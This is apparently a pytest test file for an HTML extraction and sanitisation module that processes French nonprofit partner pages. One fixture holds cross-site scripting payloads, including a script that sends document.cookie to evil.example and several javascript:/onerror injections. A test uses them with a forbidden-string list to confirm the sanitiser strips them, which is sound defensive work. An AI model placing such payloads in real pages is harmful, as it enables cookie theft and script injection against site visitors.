"""Extraction from realistic French partner pages (no network involved)."""

from __future__ import annotations

import socket
from datetime import UTC, datetime

import pytest

from harvesting.extraction import (
    PlaceMention,
    extract_page,
    normalize_tags,
    parse_any_date,
    parse_json_ld,
)

PARTNER = "https://fondation-solidaire.example"

LOREM = (
    "Depuis 2019, l'association anime un jardin partagé de 800 m² ouvert à tous les habitants "
    "du quartier. Les bénévoles y cultivent légumes et plantes aromatiques, organisent des "
    "ateliers pour les écoles et des repas partagés chaque mois. "
)

PROJECT_JSONLD = f"""<!doctype html><html lang="fr-FR"><head><meta charset="utf-8">
<title>Le Jardin des Lilas | Fondation Solidaire</title>
<meta property="og:site_name" content="Fondation Solidaire">
<meta property="og:title" content="Le Jardin des Lilas - Fondation Solidaire">
<meta property="og:image" content="/media/jardin.jpg">
<meta name="keywords" content="alimentation, lien social">
<meta property="article:tag" content="Quartiers prioritaires">
<link rel="canonical" href="{PARTNER}/projets/jardin-des-lilas/">
<script type="application/ld+json">{{"@context":"https://schema.org","@graph":[
{{"@type":"WebSite","name":"Fondation Solidaire","url":"{PARTNER}/"}},
{{"@type":"Organization","@id":"#org","name":"Fondation Solidaire","url":"{PARTNER}/"}},
{{"@type":"Project","name":"Le Jardin des Lilas",
"description":"Un jardin partagé et solidaire au cœur du 19e.",
"url":"{PARTNER}/projets/jardin-des-lilas/","sameAs":["https://www.facebook.com/jardinlilas","https://jardin-lilas.example/"],
"keywords":["Jardin", "agriculture urbaine", "Alimentation"],
"email":"mailto:Contact@Jardin-Lilas.example","datePublished":"2023-04-02","dateModified":"2024-01-15T09:30:00+01:00",
"publisher":{{"@id":"#org"}},
"address":{{"@type":"PostalAddress","streetAddress":"12 rue des Lilas","postalCode":"75019",
"addressLocality":"Paris","addressRegion":"Île-de-France","addressCountry":"FR"}}}},
]}}</script></head>
<body><header><a href="/"><h1>Fondation Solidaire</h1></a>
<nav><a href="/projets/">Projets</a></nav></header>
<main><article><h1>Le Jardin des Lilas</h1><p>{LOREM}</p><p>{LOREM}</p>
<p>Le projet favorise le lien social entre générations. <a href="/projets/">Autres projets</a></p>
</article></main>
<footer><address>Fondation Solidaire, 1 place Bellecour 69002 Lyon</address>
<a href="mailto:info@fondation-solidaire.example">Écrire à la fondation</a></footer>
</body></html>"""


def test_project_page_with_json_ld():
    page = extract_page(PROJECT_JSONLD, f"{PARTNER}/projets/jardin-des-lilas/")

    assert page.title == "Le Jardin des Lilas"
    assert page.summary == "Un jardin partagé et solidaire au cœur du 19e."
    assert "Depuis 2019" in page.text and "Depuis 2019" in page.description_html
    assert page.description_html.startswith("<p>")
    assert "Fondation Solidaire, 1 place" not in page.text  # footer left out
    assert page.image_url == f"{PARTNER}/media/jardin.jpg"
    assert page.published == datetime(2023, 4, 2, tzinfo=UTC)
    assert page.modified == datetime(2024, 1, 15, 8, 30, tzinfo=UTC)
    assert page.tags[:3] == ["Jardin", "agriculture urbaine", "Alimentation"]
    assert "Quartiers prioritaires" in page.tags and "lien social" in page.tags
    assert [t.lower() for t in page.tags].count("alimentation") == 1
    assert page.places == [
        PlaceMention("12 rue des Lilas", "75019", "Paris", "Île-de-France", "FR", "jsonld")
    ]
    assert page.website == "https://jardin-lilas.example/"
    assert page.email == "contact@jardin-lilas.example"
    assert page.language == "fr"
    assert page.site_name == "Fondation Solidaire"
    assert page.canonical_url == f"{PARTNER}/projets/jardin-des-lilas/"
    assert (page.page_kind, page.page_kind_reason) == (
        "project", "données structurées schema.org Project",
    )  # fmt: skip
    assert "Project" in page.schema_types


BARE_PAGE = f"""<html><head><title>Ressourcerie du Plateau – Réseau Réemploi</title></head>
<body><div id="menu"><a href="/">Accueil</a></div>
<div class="contenu"><h1>Ressourcerie du Plateau</h1>
<p>La Ressourcerie du Plateau collecte les objets dont les habitants n'ont plus l'usage, les
remet en état et les revend à petit prix. {LOREM}</p>
<p>Elle emploie douze personnes en insertion. {LOREM}</p>
<div class="adresse">3 chemin des Forges 25000 Besançon</div>
<p>Pour en savoir plus : <a href="https://ressourcerie-plateau.example/">site internet</a>,
<a href="https://twitter.com/ressourcerie">site Twitter</a>.
Écrire à contact [at] ressourcerie-plateau [point] example</p></div>
<div class="footer">Réseau Réemploi</div></body></html>"""


def test_page_without_any_metadata():
    url = "https://reseau-reemploi.example/membres/ressourcerie-du-plateau"
    page = extract_page(BARE_PAGE, url)

    assert page.title == "Ressourcerie du Plateau"
    assert page.summary.startswith("La Ressourcerie du Plateau collecte")
    assert len(page.summary) <= 301
    assert page.address_text == "3 chemin des Forges 25000 Besançon"
    assert PlaceMention(postal_code="25000", locality="Besançon", source="text") in page.places
    assert page.website == "https://ressourcerie-plateau.example/"
    assert page.email == "contact@ressourcerie-plateau.example"
    assert page.page_kind == "project"
    assert "texte substantiel" in page.page_kind_reason
    assert page.published is None and page.image_url == "" and page.language == ""


LISTING = """<html lang="fr"><head><title>Nos projets - Réseau</title>
<link rel="next" href="/projets/page/2/"></head><body><main><h1>Nos projets</h1>
{cards}<div class="pagination"><a href="/projets/page/2/">2</a>
<a href="/projets/page/2/">Suivant</a></div>
</main></body></html>""".format(
    cards="".join(
        f'<div class="card"><h2><a href="/projets/projet-{i}/">Projet {i}</a></h2>'
        "<p>Résumé.</p></div>"
        for i in range(12)
    )
)


def test_listing_page():
    page = extract_page(LISTING, "https://reseau.example/projets/")
    assert page.page_kind == "listing"
    assert "pagination" in page.page_kind_reason
    assert page.title == "Nos projets"


NEWS = f"""<html lang="fr"><head><title>Lancement de l'appel à projets 2024 | Réseau</title>
<meta property="og:type" content="article">
<meta property="article:published_time" content="2024-03-12T08:00:00+01:00">
<script type="application/ld+json">
  <!-- généré par un plugin -->
  {{"@context": "https://schema.org", "@type": "NewsArticle",
    "headline": "Lancement de l'appel à projets 2024",
    "datePublished": "2024-03-12T08:00:00+01:00",
    "image": {{"@type": "ImageObject", "url": "https://cdn.reseau.example/ap2024.png"}},
    "articleSection": "Appels à projets",}}
</script></head><body><article><h1>Lancement de l'appel à projets 2024</h1>
<p>{LOREM}</p></article></body></html>"""


def test_news_item_with_sloppy_json_ld():
    page = extract_page(NEWS, "https://reseau.example/2024/03/appel-a-projets")
    assert page.page_kind == "news"
    assert page.title == "Lancement de l'appel à projets 2024"
    assert page.published == datetime(2024, 3, 12, 7, 0, tzinfo=UTC)
    assert page.image_url == "https://cdn.reseau.example/ap2024.png"
    assert "Appels à projets" in page.tags


def test_news_by_path():
    html = f"<html><body><h1>Retour sur la journée</h1><p>{LOREM * 3}</p></body></html>"
    page = extract_page(html, "https://reseau.example/actualites/retour-journee")
    assert (page.page_kind, page.page_kind_reason) == (
        "news", "chemin d'actualité (/actualites/retour-journee)",
    )  # fmt: skip


@pytest.mark.parametrize(
    "path,title",
    [
        ("/mentions-legales/", "Informations"),
        ("/politique-de-confidentialite", "Vos données"),
        ("/page-12", "Mentions légales"),
        ("/infos", "Contactez-nous"),
    ],
)
def test_legal_pages(path, title):
    html = (
        f"<html><head><title>{title}</title></head>"
        f"<body><h1>{title}</h1><p>{LOREM * 4}</p></body></html>"
    )
    page = extract_page(html, f"https://reseau.example{path}")
    assert page.page_kind == "legal"


HOSTILE = f"""<html><head><title>Projet piégé</title>
<script>document.location='https://evil.example/?c='+document.cookie</script></head>
<body><article><h1>Projet piégé</h1>
<p onclick="alert(1)">{LOREM}<img src="x" onerror="alert(2)"></p>
<p>Pour participer, <a href="javascript:alert(3)">cliquez ici</a> ou lisez d'abord
<a href="/doc">la documentation</a> ou encore les
<a href="data:text/html;base64,PHNjcmlwdD4=">données</a>
du projet, qui présentent les ateliers, les horaires d'ouverture et les partenaires du quartier.</p>
<iframe src="https://evil.example/frame"></iframe><object data="x.swf"></object>
<p style="background:url(javascript:alert(4))">{LOREM}</p>
<svg><script>alert(5)</script></svg><form action="https://evil.example"><input name="q"></form>
</article></body></html>"""


def test_hostile_html_is_sanitised():
    page = extract_page(HOSTILE, "https://reseau.example/projets/piege")
    html = page.description_html.lower()
    assert "Depuis 2019" in page.description_html
    for forbidden in ("<script", "onerror", "onclick", "javascript:", "<iframe", "<object",
                      "style=", "data:text", "<svg", "<form", "evil.example"):  # fmt: skip
        assert forbidden not in html, forbidden
    assert 'href="https://reseau.example/doc"' in page.description_html  # made absolute
    assert "alert" not in page.text


def test_selectors_override_extraction():
    html = """<html><head><title>Titre du site</title></head><body>
    <div class="fiche"><span class="nom">Épicerie solidaire du Marais</span>
    <div id="texte"><p>Une épicerie <b>solidaire</b>.</p><script>alert(1)</script></div>
    <img class="visuel" src="/img/epicerie.jpg">
    <ul class="mots"><li>Alimentation</li><li>Précarité</li></ul>
    <p class="lieu">8 rue Vieille-du-Temple 75004 Paris</p>
    <time datetime="2022-09-01">1er septembre</time>
    <a class="web" href="https://epicerie.example">Lien</a></div></body></html>"""
    selectors = {
        "title": "css:.fiche .nom",
        "description": "xpath://div[@id='texte']",
        "image": "css:img.visuel",
        "tags": "css:ul.mots li",
        "address": "css:.lieu",
        "published": "xpath://time",
        "website": "a.web",
        "email": "",
    }
    page = extract_page(html, "https://reseau.example/fiches/epicerie", selectors)
    assert page.title == "Épicerie solidaire du Marais"
    assert "<b>solidaire</b>" in page.description_html and "script" not in page.description_html
    assert page.text == "Une épicerie solidaire."
    assert page.image_url == "https://reseau.example/img/epicerie.jpg"
    assert page.tags == ["Alimentation", "Précarité"]
    assert page.address_text == "8 rue Vieille-du-Temple 75004 Paris"
    assert page.places[0].postal_code == "75004"
    assert page.published == datetime(2022, 9, 1, tzinfo=UTC)
    assert page.website == "https://epicerie.example"
    assert page.warnings == []


def test_bad_selectors_become_warnings():
    page = extract_page(
        "<html><body><h1>Projet</h1></body></html>",
        "https://reseau.example/p",
        {"title": "css:h1[[", "summary": "xpath://*[", "image": "css:.absent", "couleur": "h1"},
    )
    assert page.title == "Projet"
    assert len(page.warnings) == 4
    assert any("couleur" in w for w in page.warnings)


def test_microdata():
    html = f"""<html><body><div itemscope itemtype="https://schema.org/NGO">
    <h1 itemprop="name">Association Les Petits Débrouillards Occitanie</h1>
    <p itemprop="description">Culture scientifique pour tous.</p>
    <div itemprop="address" itemscope itemtype="https://schema.org/PostalAddress">
    <span itemprop="postalCode">31000</span> <span itemprop="addressLocality">Toulouse</span></div>
    <meta itemprop="email" content="occitanie@debrouillards.example">
    </div><p>{LOREM}</p></body></html>"""
    page = extract_page(html, "https://reseau.example/structures/pd-occitanie")
    assert page.title == "Association Les Petits Débrouillards Occitanie"
    assert page.summary == "Culture scientifique pour tous."
    assert page.places[0].postal_code == "31000" and page.places[0].source == "microdata"
    assert page.email == "occitanie@debrouillards.example"
    assert page.page_kind == "project"


def test_empty_and_garbage_input_never_raise():
    for html in ("", "   ", "\x00\x01", "<html", "<?xml version='1.0' encoding='utf-8'?><p>x</p>"):
        page = extract_page(html, "https://reseau.example/x")
        assert page.page_kind in ("other", "project", "legal", "news", "listing")


def test_extraction_never_touches_the_network(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("network access during extraction")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    page = extract_page(PROJECT_JSONLD, f"{PARTNER}/projets/jardin-des-lilas/")
    assert page.title == "Le Jardin des Lilas"


def test_loopback_url_with_port_does_not_break_extraction():
    # courlan drops IP-with-port URLs inside trafilatura: our fields must not depend on it
    page = extract_page(BARE_PAGE, "http://127.0.0.1:8123/membres/ressourcerie")
    assert page.title == "Ressourcerie du Plateau"
    assert page.website == "https://ressourcerie-plateau.example/"


def test_windows_1252_page_through_client(partner_site, client):
    html = (
        "<html><head><title>Café-épicerie</title></head>"
        f"<body><h1>Café-épicerie à Besançon</h1><p>{LOREM}</p></body></html>"
    )
    partner_site.add("/fiche", html.encode("cp1252"), content_type="text/html")
    result = client.fetch(partner_site.url("/fiche"))
    page = extract_page(result.text, result.final_url)
    assert page.title == "Café-épicerie à Besançon"
    assert "bénévoles" in page.text


@pytest.mark.parametrize(
    "title,site,expected",
    [
        ("Le Jardin | Fondation Solidaire", "Fondation Solidaire", "Le Jardin"),
        ("Fondation Solidaire - Le Jardin", "Fondation Solidaire", "Le Jardin"),
        ("Le Jardin – fondation-solidaire.example", "fondation-solidaire.example", "Le Jardin"),
        ("Habitat partagé - Lyon", "Fondation Solidaire", "Habitat partagé - Lyon"),
        ("Sans séparateur", "Fondation", "Sans séparateur"),
    ],
)
def test_site_name_is_stripped_by_the_one_title_cleaner(title, site, expected):
    from projects.consolidation.normalize import clean_title

    assert clean_title(title, site) == expected


def test_json_ld_parser_is_tolerant():
    assert parse_json_ld('{"@type": "Project", "name": "A",}')[0]["name"] == "A"
    assert len(parse_json_ld('{"@type":"A","name":"x"}{"@type":"B","name":"y"}')) == 2
    assert parse_json_ld("{ pas du json") == []
    assert (
        parse_json_ld('[{"@type":"Project","name":"ligne\nbrisée"}]')[0]["name"] == "ligne\nbrisée"
    )


def test_dates_and_tags_helpers():
    assert parse_any_date("12 mars 2024") == datetime(2024, 3, 12, tzinfo=UTC)
    assert parse_any_date("1er août 2023") == datetime(2023, 8, 1, tzinfo=UTC)
    assert parse_any_date("05/06/2021") == datetime(2021, 6, 5, tzinfo=UTC)
    assert parse_any_date("bientôt") is None
    assert normalize_tags([" Écologie ", "ecologie", "", "#Climat", "x" * 100]) == [
        "Écologie", "Climat",
    ]  # fmt: skip


# ---------------------------------------------------------------------------- page kinds, fields

BODY = LOREM * 3


def wp_post(path: str, *, section: str = "", breadcrumb: str = "", title="La Cantine du Port"):
    section_meta = f'<meta property="article:section" content="{section}">' if section else ""
    crumbs = (
        f'<nav class="breadcrumb"><a href="/">Accueil</a> › <a href="/x/">{breadcrumb}</a></nav>'
        if breadcrumb
        else ""
    )
    return f"""<!doctype html><html lang="fr"><head><meta charset="utf-8">
<title>{title} – Réseau Exemple</title><meta property="og:type" content="article">
<meta property="article:published_time" content="2023-03-01T10:00:00+01:00">{section_meta}
</head><body>{crumbs}<main><article><h1>{title}</h1><p>{BODY}</p></article></main></body></html>"""


@pytest.mark.parametrize(
    "path,section,breadcrumb,kind",
    [
        ("/projets/la-cantine-du-port/", "", "", "project"),
        ("/initiatives/la-cantine-du-port", "", "", "project"),
        ("/laureats/la-cantine-du-port", "", "", "project"),
        ("/2023/03/la-cantine-du-port/", "Projets", "", "project"),
        ("/2023/03/la-cantine-du-port/", "", "Nos lauréats", "project"),
        ("/2023/03/la-cantine-du-port/", "", "", "news"),
        ("/actualites/la-cantine-du-port/", "Projets", "", "news"),
        ("/blog/la-cantine-du-port/", "", "", "news"),
    ],
)
def test_dated_posts_filed_as_projects_are_projects(path, section, breadcrumb, kind):
    page = extract_page(wp_post(path, section=section, breadcrumb=breadcrumb), PARTNER + path)
    assert page.page_kind == kind, page.page_kind_reason


def test_blog_posting_schema_stays_news_under_a_project_path():
    html = wp_post("/projets/x/").replace(
        "</head>",
        '<script type="application/ld+json">{"@type":"BlogPosting","headline":"X"}</script></head>',
    )
    assert extract_page(html, PARTNER + "/projets/x/").page_kind == "news"


@pytest.mark.parametrize(
    "path,title,jsonld",
    [
        ("/a-propos", "À propos", ""),
        ("/la-fondation", "La Fondation", ""),
        ("/qui-sommes-nous", "Qui sommes-nous ?", ""),
        ("/notre-histoire-x", "Notre histoire", ""),
        ("/page-12", "Le programme", '{"@type":"AboutPage","name":"Le programme"}'),
    ],
)
def test_about_pages_are_not_projects(path, title, jsonld):
    script = f'<script type="application/ld+json">{jsonld}</script>' if jsonld else ""
    html = f"""<html lang="fr"><head><title>{title}</title>{script}</head><body><main>
<h1>{title}</h1><p>{BODY}</p></main></body></html>"""
    page = extract_page(html, PARTNER + path)
    assert page.page_kind == "other", page.page_kind_reason


def test_project_named_like_a_network_is_still_a_project():
    html = f"""<html lang="fr"><head><title>Le Réseau des cafés solidaires</title></head><body>
<main><h1>Le Réseau des cafés solidaires</h1><p>{BODY}</p></main></body></html>"""
    assert extract_page(html, PARTNER + "/projets/reseau-cafes").page_kind == "project"


def fiche(fields: str, extra: str = "") -> str:
    return f"""<html lang="fr"><head><title>Le Grenier</title></head><body>
<header><a href="https://www.facebook.com/x">Site web</a>
<span class="lieu">Paris (75)</span></header>
<main><h1>Le Grenier</h1>{fields}<p>{BODY}</p>{extra}</main>
<footer><a href="https://autre.example/">Site internet : autre</a></footer></body></html>"""


@pytest.mark.parametrize(
    "fields",
    [
        '<p><strong>Site internet :</strong> <a href="https://grenier.example/">grenier.example</a></p>',
        '<table><tr><td><b>Site web :</b></td><td><a href="https://grenier.example/">'
        "https://grenier.example/</a></td></tr></table>",
        '<dl><dt>Site web</dt><dd><a href="https://grenier.example/">grenier.example</a></dd></dl>',
        '<div class="field"><div class="field__label">Site internet</div><div class="field__item">'
        '<a href="https://grenier.example/">Découvrir</a></div></div>',
    ],
)
def test_website_labelled_next_to_its_link(fields):
    assert extract_page(fiche(fields), PARTNER + "/annuaire/grenier").website == (
        "https://grenier.example/"
    )


def test_domain_containing_a_share_word_is_a_website():
    fields = '<p>Site : <a href="https://soleil-partage.example/">soleil-partage.example</a></p>'
    page = extract_page(fiche(fields), PARTNER + "/annuaire/grenier")
    assert page.website == "https://soleil-partage.example/"


def test_unlabelled_external_link_is_not_the_website():
    fields = '<p>Lire <a href="https://journal.example/article">cet article</a>.</p>'
    assert extract_page(fiche(fields), PARTNER + "/annuaire/grenier").website == ""


def test_address_lines_split_by_br_keep_the_postal_code():
    page = extract_page(
        fiche("<address>La Marmite<br>12 rue de Saint-Malo<br>35000 Rennes</address>"),
        PARTNER + "/projets/grenier",
    )
    assert page.address_text == "La Marmite, 12 rue de Saint-Malo, 35000 Rennes"
    assert PlaceMention(postal_code="35000", locality="Rennes", source="text") in page.places


@pytest.mark.parametrize(
    "fields,expected",
    [
        ('<p class="meta"><span class="lieu">Die, Drôme (26)</span></p>', "Die, Drôme (26)"),
        ("<p>Lieu : Grenoble (38000)</p>", "Lieu : Grenoble (38000)"),
        (
            "<table><tr><td><b>Lieu :</b></td><td>Annemasse (74100)</td></tr></table>",
            "Lieu : Annemasse (74100)",
        ),
        (
            '<div><div class="field__label">Territoire</div><div class="field__item">Creuse'
            "</div></div>",
            "Territoire : Creuse",
        ),
    ],
)
def test_places_stated_in_fields(fields, expected):
    page = extract_page(fiche(fields), PARTNER + "/projets/grenier")
    assert expected in page.place_text.split("\n")
    assert "Paris (75)" not in page.place_text  # the header is not the project


def test_place_field_with_postal_code_becomes_a_place():
    page = extract_page(fiche("<p>Lieu : Grenoble (38000)</p>"), PARTNER + "/projets/grenier")
    assert any(p.postal_code == "38000" for p in page.places)


def test_category_fields_become_tags():
    fields = (
        "<table><tr><td>Secteur :</td><td>Formation / Emploi</td></tr></table>"
        '<div><div class="field__label">Thématiques</div><div class="field__items">'
        '<div class="field__item">Culture</div><div class="field__item">Lien social</div>'
        "</div></div><p>Thèmes : santé, sport</p>"
    )
    page = extract_page(fiche(fields), PARTNER + "/projets/grenier")
    for tag in ("Formation", "Emploi", "Culture", "Lien social", "santé", "sport"):
        assert tag in page.tags


def test_a_page_of_linked_cards_with_little_text_of_its_own_is_a_listing():
    cards = "".join(
        f'<article><h3><a href="/projets/p{i}">Projet numéro {i} du réseau</a></h3>'
        f"<p>{'Une initiative solidaire du territoire, portée par des habitants. ' * 3}</p>"
        "</article>"
        for i in range(4)
    )
    listing = (
        '<html lang="fr"><head><title>Nos projets</title></head><body><main>'
        f"<h1>Nos projets</h1>{cards}</main></body></html>"
    )
    page = extract_page(listing, "https://reseau.exemple.org/projets/")
    assert page.page_kind == "listing", page.page_kind_reason
    # a project page with a "related projects" block keeps its kind: its own text is long
    own = "<p>" + "Le garage solidaire répare les voitures des personnes en insertion. " * 12
    project = listing.replace("<h1>Nos projets</h1>", f"<h1>Garage solidaire</h1>{own}</p>")
    page = extract_page(project, "https://reseau.exemple.org/projets/garage-solidaire")
    assert page.page_kind == "project", page.page_kind_reason
